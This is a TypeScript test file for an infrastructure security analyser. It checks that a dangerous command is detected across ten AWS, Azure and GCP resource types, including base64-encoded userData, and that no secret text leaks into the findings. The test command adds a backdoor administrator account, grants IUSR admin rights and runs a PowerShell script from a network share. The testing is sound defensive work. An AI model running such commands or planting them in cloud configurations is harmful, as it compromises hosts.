import { expect, it } from "vitest";
import { type Given, graphOf, judged, WINDOWS_2022 } from "./support.js";

/** A secret in every kind of carrier: the danger is found, and no word of the secret is in what is said. */
const b64 = (text: string) => Buffer.from(text).toString("base64");

it("no word of a secret comes out of any carrier", () => {
  const SIG = "4dabf18193072939515e22adb298388d";
  const sec = (value: unknown) => ({ [SIG]: "1b47061264138c4ac30d75fd1eb44270", value });
  const s =
    "net user canaryuser CanaryPass1 /add & net localgroup Administrators canaryuser /add & net localgroup Administrators IUSR /add & powershell -File \\\\canaryshare\\x.ps1";
  const vm = { type: "azure-native:compute:VirtualMachine", name: "vm", inputs: { vmName: "vm", ...WINDOWS_2022 } };
  const cases: Given[][] = [
    [
      vm,
      {
        type: "azure-native:compute:VirtualMachineRunCommandByVirtualMachine",
        name: "r",
        inputs: { vmName: "vm", source: { script: sec(s) } },
      },
    ],
    [
      vm,
      {
        type: "azure-native:compute:VirtualMachineExtension",
        name: "r",
        inputs: {
          vmName: "vm",
          publisher: "Microsoft.Compute",
          type: "CustomScriptExtension",
          protectedSettings: { commandToExecute: s },
        },
      },
    ],
    [{ type: "aws:ec2/instance:Instance", name: "r", inputs: { userData: sec(`<script>${s}</script>`) } }],
    [{ type: "aws:ec2/launchTemplate:LaunchTemplate", name: "r", inputs: { userData: sec(b64(`<script>${s}</script>`)) } }],
    [
      {
        type: "aws:ssm/document:Document",
        name: "r",
        inputs: {
          content: sec(
            JSON.stringify({ mainSteps: [{ action: "aws:runPowerShellScript", inputs: { runCommand: s.split(" & ") } }] }),
          ),
        },
      },
    ],
    [{ type: "gcp:compute/instance:Instance", name: "r", inputs: { metadata: sec({ "windows-startup-script-cmd": s }) } }],
    [
      {
        type: "azure-native:resources:Deployment",
        name: "r",
        inputs: {
          properties: sec({
            template: {
              resources: [
                {
                  type: "Microsoft.Compute/virtualMachines/extensions",
                  name: "w/x",
                  properties: {
                    publisher: "Microsoft.Compute",
                    type: "CustomScriptExtension",
                    settings: { commandToExecute: s },
                  },
                },
              ],
            },
          }),
        },
      },
    ],
    [
      {
        type: "azure-native:virtualmachineimages:VirtualMachineImageTemplate",
        name: "r",
        inputs: { customize: [{ type: "PowerShell", inline: sec(s.split(" & ")) }] },
      },
    ],
    [{ type: "azure-native:batch:Pool", name: "r", inputs: { startTask: { commandLine: sec(`cmd /c "${s}"`) } } }],
    [
      {
        type: "azure:automation/runBook:RunBook",
        name: "r",
        inputs: { name: "r", content: sec(s.replaceAll(" & ", "\n")), jobSchedules: [{ runOn: "x" }] },
      },
    ],
  ];
  for (const given of cases) {
    const findings = judged(graphOf(given)).flatMap((host) => host.findings);
    expect(findings).not.toEqual([]);
    expect(JSON.stringify(findings)).not.toMatch(/canary/i);
  }
});
